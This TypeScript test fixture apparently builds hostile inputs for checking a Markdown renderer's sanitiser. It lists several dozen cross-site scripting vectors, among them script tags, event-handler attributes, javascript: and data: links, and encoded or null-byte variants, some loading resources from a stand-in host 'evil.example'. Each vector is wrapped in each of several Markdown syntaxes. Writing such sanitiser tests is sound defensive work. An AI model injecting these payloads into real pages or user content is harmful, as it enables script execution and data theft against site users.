// Texts that try to inject a script, markup or a request. Each attack is combined with each syntax
// of Markdown that can contain it.

/** The script of an attack. It sets a mark, so that the test notices if it ran. */
const run = "globalThis.__hit=1;alert(1)";
const evil = "https://evil.example/x";

const vectors: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="${evil}.js"></script>`,
  `<img src=x onerror="${run}">`,
  `<img src="${evil}.png">`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<body onload="${run}">`,
  `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}">`,
  `<object data="javascript:${run}">`,
  `<embed src="${evil}">`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<form action="javascript:${run}"><button>go</button></form>`,
  `<input autofocus onfocus="${run}">`,
  `<marquee onstart="${run}">`,
  `<style>@import "${evil}.css";</style>`,
  `<link rel=stylesheet href="${evil}.css">`,
  `<base href="${evil}/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `</script><script>${run}</script>`,
  `</template><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</title><img src=x onerror=${run}>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `"><img src=x onerror=${run}>`,
  `' onmouseover='${run}`,
  `javascript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `[click](javascript:${run})`,
  `[click](JaVaScRiPt:${run})`,
  `[click](java\tscript:${run})`,
  `[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[click](vbscript:msgbox(1))`,
  `[click](${evil} "title' onmouseover='${run}")`,
  `![image](${evil}.png)`,
  `![image](javascript:${run})`,
  `![a][1]\n\n[1]: ${evil}.png`,
  `[a][1]\n\n[1]: javascript:${run}`,
  `<javascript:${run}>`,
  `<${evil}>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#x3C;img src=x onerror=${run}&#x3E;`,
  `[x](&#106;avascript:${run})`,
  `\u003cscript\u003e${run}\u003c/script\u003e`,
  `\${${run}}{{${run}}}<%= ${run} %>`,
  `\u202e<script>${run}</script>\u202c`,
  `\u0000<scr\u0000ipt>${run}</script>`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
  `<a href="${evil}" ping="${evil}" onclick="${run}">x</a>`,
  `<table background="${evil}"><td style="background:url(${evil})">`,
  `<div style="background:url(${evil});width:expression(${run})">`,
];

const wrappings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `\`\`\`${text.replace(/[\n`]/g, " ")}\ncode\n\`\`\``,
  (text) => `| a | b |\n|---|---|\n| ${text.replaceAll("\n", " ")} | 2 |`,
  (text) => `> - **${text}**\n>   1. _x_`,
  (text) => `# ${text}\n\n---\n\n[${text}](https://example.org "${text}")`,
];

/** All hostile texts. */
export const hostileTexts: readonly string[] = wrappings.flatMap((wrap) => vectors.map(wrap));
